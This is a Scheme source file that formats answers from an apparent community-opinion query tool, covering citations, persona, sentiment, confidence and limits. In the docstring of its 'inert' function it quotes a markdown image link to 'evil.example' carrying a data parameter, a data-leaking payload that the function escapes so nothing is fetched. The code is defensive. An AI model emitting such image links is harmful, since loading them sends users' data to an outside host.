;;; Answers as people read them.

(define (answer->string answer)
  "ANSWER as several lines for people: what it says, who said it where, how sure it is, what it rests on.

  > (string? (answer->string (persona-inquiry 'everyone \"What do they think of the price?\")))
  => #t"
  (string-join
    (append
      (if (answer-refusal answer)
          (list (string-append "No answer: " (answer-refusal answer) "."))
          (map inert (string-split (answer-text answer) "\n")))
      (map citation-line (answer-citations answer) (iota (length (answer-citations answer)) 1))
      (filter (lambda (line) line)
              (list (persona-line (answer-persona answer)) (feeling-line (answer-feeling answer))
                    (and (answer-context answer) (string-append "context: " (answer-context answer)))))
      (map (lambda (line) (string-append "limit: " line)) (answer-limits answer))
      (list (string-append (if (answer-refusal answer) "" (confidence-text (answer-confidence answer) (answer-estimate answer)))
                           (if (answer-turn answer)
                               (string-append "turn " (number->string (answer-turn answer)))
                               "not kept as a turn, as there is no workspace yet"))))
    "\n"))

(define (inert line)
  "LINE of what members wrote, as a page or a terminal may show it: with what is invisible spelled out, and no picture that
  would be fetched.

  > (inert \"look ![x](http://evil.example/?d=1)\")
  => \"look !\\\\[x](http://evil.example/?d=1)\""
  (string-replace (%visible line) "![" "!\\["))

(define (confidence-text confidence estimate)
  "How sure an answer is, before what follows in its line: of the sign of an ESTIMATE, where there is one; of a count, which
  has no CONFIDENCE, nothing.

  > (map confidence-text '(0.9 0.97 #f) '(#f -0.1 #f))
  => (\"confidence 90 %, \" \"97 % sure of the sign, \" \"\")"
  (cond ((not confidence) "")
        (estimate (string-append (percent confidence) " sure of the sign, "))
        (else (string-append "confidence " (percent confidence) ", "))))

(define (citation-line citation number)
  "CITATION in a line, as NUMBER: who said it, when, where, in which message, and what it answers.

  > (citation-line (make-citation \"m1\" \"too hard\" \"ann\" (moment \"2026-01-31\") \"tavern\" \"m0\" \"how is it?\" #f) 1)
  => \"  [1] ann, 2026-01-31, #tavern, message m1, answering “how is it?” (message m0)\""
  (string-append "  [" (number->string number) "] " (%visible (or (citation-author citation) "?")) ", "
                 (day-of (citation-timestamp citation))
                 (if (citation-channel citation) (string-append ", #" (%visible (citation-channel citation))) "")
                 ", message " (citation-message-id citation)
                 (if (citation-answers citation)
                     (string-append ", answering “" (shortened (inert (citation-asked citation)) 80) "” (message "
                                    (citation-answers citation) ")")
                     "")))

(define (shortened text most)
  "TEXT, or its first MOST characters and a mark that there is more.

  > (shortened \"abcdef\" 3)
  => \"abc…\""
  (if (> (string-length text) most) (string-append (substring text 0 most) "…") text))

(define (persona-line persona)
  "Which PERSONA was taken, in a line; #f for everyone.

  > (persona-line #f)
  => #f"
  (and persona
       (string-append "persona: " (or (hash-ref persona :alias #f) (hash-ref persona :label))
                      (if (hash-ref persona :resolved #f) (string-append " (" (hash-ref persona :resolved) ")") ""))))

(define (feeling-line feeling)
  "FEELING in a line; #f for none.

  > (feeling-line #f)
  => #f"
  (and feeling
       (> (hash-ref feeling :n) 0)
       (string-append "feeling " (%signed (hash-ref feeling :mean)) " ("
                      (percent (hash-ref feeling :level)) " between " (%signed (car (hash-ref feeling :interval)))
                      " and " (%signed (cadr (hash-ref feeling :interval))) "; "
                      (numbered (hash-ref feeling :n) "message") " by " (numbered (hash-ref feeling :authors) "author") ")")))
